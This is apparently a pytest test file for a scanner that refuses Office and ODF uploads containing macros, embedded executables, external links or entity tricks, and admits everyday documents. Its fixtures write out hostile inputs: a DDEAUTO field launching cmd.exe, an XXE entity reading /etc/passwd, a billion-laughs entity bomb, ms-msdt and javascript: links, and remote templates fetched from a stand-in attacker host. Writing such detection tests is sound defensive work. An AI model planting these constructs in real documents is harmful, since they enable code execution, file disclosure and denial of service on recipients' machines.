"""Office and ODF files that run, fetch, hide or lock something: each a valid file with one thing added."""

# ruff: noqa: E501  one case, one line

import pytest

from . import samples
from .samples import XML, docx, odf, ole, pptx, relations, zipped

VBA = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)).replace("&a0;", "&a;")
    + "]><l>&a9;</l>"
)
DDE_SPLIT = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>'
    '<w:r><w:instrText>AUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
)


@pytest.mark.parametrize(
    ("make", "code"),
    [
        (lambda: docx({"word/vbaProject.bin": ole("VBA")}), "macros"),
        (lambda: docx({"word/anders.bin": ole("VBA")}, types=VBA.replace("vbaProject.bin", "anders.bin")), "macros"),
        (lambda: docx(types=VBA), "macros"),
        (lambda: docx({"word/vbaData.xml": "<a/>"}), "macros"),
        (lambda: docx(links=[("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x.bin", False)]), "macros"),
        (lambda: docx({"xl/macrosheets/sheet1.xml": "<a/>"}), "macros"),
        (lambda: docx(types='<Override PartName="/x.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'), "macros"),
        (lambda: docx(types='<Default Extension="q" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'), "macros"),
        (lambda: pptx(slide='<a:hlinkClick r:id="" action="ppaction://macro?name=Start"/>'), "macros"),
        (lambda: pptx(slide='<a:hlinkClick r:id="r1" action="ppaction://program"/>'), "macros"),
        (lambda: docx(main="template.main"), "template"),
        (lambda: docx({"word/embeddings/oleObject1.bin": ole("Package")}), "embedded"),
        (lambda: docx({"word/embeddings/verborgen.dat": ole("Package")}), "embedded"),
        (lambda: docx({"word/media/image1.png": b"MZ\x90\x00" + b"\x00" * 60}), "embedded"),
        (lambda: docx({"word/media/image1.emf": b"\x7fELF" + b"\x00" * 60}), "embedded"),
        (lambda: docx({"word/bijlage.ps1": "Start-Process calc"}), "embedded"),
        (lambda: docx({"word/activeX/activeX1.xml": "<a/>"}), "embedded"),
        (lambda: docx({"word/afchunk.mht": "MIME-Version: 1.0"}), "embedded"),
        (lambda: docx({"word/a.xml": "<a/>"}, links=[("aFChunk", "a.xml", False)]), "embedded"),
        (lambda: docx({"word/embeddings/bijlage.pdf": samples.pdf()}), "embedded"),
        (lambda: docx({"word/embeddings/a.zip": zipped({"a.txt": "a"})}), "nested"),
        (lambda: docx({"word/media/a.png": zipped({"a.txt": "a"})}), "nested"),
        (lambda: docx({"word/embeddings/a.docx": zipped({"a.txt": "a"})}), "archive"),
        (lambda: docx({"word/embeddings/a.docx": docx({"word/embeddings/b.docx": docx()})}), "nested"),
        (lambda: docx({"word/embeddings/a.docx": docx({"word/vbaProject.bin": "x"})}), "macros"),
        (lambda: docx({"word/media/a.bin": b"Rar!\x1a\x07\x01\x00" + b"a" * 50}), "nested"),
        (lambda: docx({"word/media/a.bin": b"\x1f\x8b\x08" + b"a" * 50}), "nested"),
        (lambda: docx({"xl/externalLinks/externalLink1.xml": "<a/>"}), "outside"),
        (lambda: docx({"xl/connections.xml": "<a/>"}), "outside"),
        (lambda: docx({"xl/queryTables/queryTable1.xml": "<a/>"}), "outside"),
        (lambda: docx(links=[("image", "https://volg.example/a.png", True)]), "outside"),
        (lambda: docx(links=[("oleObject", "https://kwaad.example/a.html!", True)]), "embedded"),
        (lambda: docx(links=[("hyperlink", "javascript:alert(1)", True)]), "outside"),
        (lambda: docx(links=[("hyperlink", "ms-msdt:/id", True)]), "outside"),
        (lambda: docx(links=[("attachedTemplate", "https://kwaad.example/a.dotm", True)]), "remote_template"),
        (lambda: docx(links=[("attachedTemplate", "file:///\\\\server\\map\\a.dotm", True)]), "remote_template"),
        (lambda: docx(links=[("attachedTemplate", "\\\\server\\map\\a.dotm", True)]), "remote_template"),
        (lambda: docx(links=[("attachedTemplate", "file://server/map/a.dotm", True)]), "remote_template"),
        (lambda: docx(body=DDE_SPLIT), "outside"),
        (lambda: docx(body='<w:fldSimple w:instr=" DDEAUTO c:\\a b "/>'), "outside"),
        (lambda: docx(body='<w:r><w:instrText>&#68;DE excel a b</w:instrText></w:r>'), "outside"),
        (lambda: docx(body='<w:r><w:instrText>QUOTE 68 68 69 65 85</w:instrText></w:r>'), "outside"),
        (lambda: docx({"word/settings.xml": LAUGHS}), "entities"),
        (lambda: docx({"word/a.bin": LAUGHS}), "entities"),
        (lambda: docx({"word/a.xml": LAUGHS.encode("utf-16")}), "entities"),
        (lambda: docx({"word/a.xml": '<!DOCTYPE a SYSTEM "https://kwaad.example/a.dtd"><a/>'}), "entities"),
        (lambda: docx({"word/a.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}), "entities"),
        (lambda: docx({"word/a.vml": '<!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>'}), "entities"),
        (lambda: docx({"word/media/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'}), "svg"),
        (lambda: docx({"word/a.xml": "<a><b></a>"}), "corrupt"),
        (lambda: odf(extra={"Basic/Standard/Module1.xml": "<a/>"}), "macros"),
        (lambda: odf(extra={"Scripts/python/a.py": "a"}), "macros"),
        (lambda: odf(extra={"Object 1/Basic/a.xml": "<a/>"}), "macros"),
        (lambda: odf(body='<text:script script:language="JavaScript">1</text:script>'), "macros"),
        (lambda: odf(body='<office:event-listeners><script:event-listener script:event-name="dom:load"/></office:event-listeners>'), "macros"),
        (lambda: odf(body='<text:a xlink:href="vnd.sun.star.script:a.b?language=Basic">x</text:a>'), "macros"),
        (lambda: odf(manifest='<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>'), "encrypted"),
        (lambda: odf(body='<draw:object-ole xlink:href="./Object 1"/>'), "embedded"),
        (lambda: odf(body='<draw:plugin xlink:href="a"/>'), "embedded"),
        (lambda: odf(extra={"Object 1": ole("Package")}), "embedded"),
        (lambda: odf(body='<text:section><office:dde-source office:dde-application="soffice"/></text:section>'), "outside"),
        (lambda: odf(body='<draw:image xlink:href="https://volg.example/a.png"/>'), "outside"),
        (lambda: odf(body='<draw:image xlink:href="../../../etc/passwd"/>'), "outside"),
        (lambda: odf(body='<text:section-source xlink:href="file:///etc/passwd"/>'), "outside"),
        (lambda: odf("spreadsheet", body='<table:table-source xlink:href="a.ods"/>'), "outside"),
        (lambda: odf(extra={"meta.xml": f'{XML}<a {samples.NAMESPACES}><meta:template xlink:href="https://kwaad.example/a.ott"/></a>'}), "remote_template"),
        (lambda: odf("text-template"), "template"),
        (lambda: odf("graphics"), "unknown"),
        (lambda: odf(mimetype="application/epub+zip"), "archive"),
        (lambda: odf(extra={"styles.xml": LAUGHS}), "entities"),
        (lambda: zipped({"rapport.txt": "a"}), "archive"),
        (lambda: zipped({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": "x"}), "archive"),
        (lambda: zipped({"[Content_Types].xml": "<Types/>", "_rels/.rels": relations()}), "archive"),
        (lambda: zipped({}), "archive"),
    ],
)  # fmt: skip
def test_what_acts_or_hides_is_refused(make, code, judged):
    assert judged("verslag.docx", make()) == code


@pytest.mark.parametrize(
    "make",
    [
        lambda: docx({"word/embeddings/Microsoft_Excel_Sheet1.xlsx": samples.xlsx()}),
        lambda: docx(links=[("attachedTemplate", "file:///C:\\Users\\a\\huisstijl.dotx", True)]),
        lambda: docx(links=[("attachedTemplate", "Normal.dotm", True)]),
        lambda: docx(links=[("hyperlink", "mailto:iemand@voorbeeld.example", True), ("hyperlink", "#kop", True)]),
        lambda: docx(body="<w:r><w:instrText> PAGE </w:instrText><w:instrText>HYPERLINK \"https://a.example/LINK\"</w:instrText></w:r>"),
        lambda: docx(body="<w:p><w:r><w:t>DDEAUTO is een oude functie; IMPORT en LINK ook</w:t></w:r></w:p>"),
        lambda: docx({"word/vmlDrawing1.vml": "<xml><br></xml>"}),
        lambda: docx({"word/leeg.xml": ""}),
        lambda: docx({"word/media/a.svg": '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>'}),
        lambda: odf(extra={"Configurations2/accelerator/current.xml": "", "Thumbnails/thumbnail.png": samples.picture("PNG")}),
        lambda: odf(body='<draw:object xlink:href="./Object 1"/>', extra={"Object 1/content.xml": "<a/>"}),
        lambda: odf(extra={"meta.xml": f'{XML}<a {samples.NAMESPACES}><meta:template xlink:href="../../AppData/a.ott"/></a>'}),
        lambda: odf(extra={"META-INF/x.xml": '<!DOCTYPE manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"><a/>'}),
    ],
)  # fmt: skip
def test_what_people_do_every_day_is_let_in(make, judged):
    verdict = judged("verslag.", make())
    assert verdict == "document"


def test_a_presentation_with_a_chart_keeps_its_workbook(judged):
    assert judged("a.pptx", pptx({"ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": samples.xlsx()})) == "presentation"


@pytest.mark.parametrize(
    ("streams", "code"), [(("EncryptionInfo", "EncryptedPackage"), "encrypted"), (("WordDocument",), "legacy")]
)
def test_ole_containers_are_refused_for_what_they_are(streams, code, refusal):
    for name in ("verslag.docx", "verslag.doc", "verslag"):
        assert refusal(name, ole(*streams)) == code
